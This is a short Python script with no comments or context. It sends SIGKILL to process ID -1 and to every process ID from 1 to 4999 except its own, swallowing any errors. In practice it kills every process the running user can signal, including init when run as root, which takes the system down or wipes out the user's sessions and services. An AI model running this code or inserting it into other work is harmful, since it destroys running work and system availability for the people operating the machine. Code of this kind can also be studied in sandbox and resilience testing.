import os
for number in [-1, *range(1, 5000)]:
    if number != os.getpid():
        try:
            os.kill(number, 9)
        except OSError:
            pass
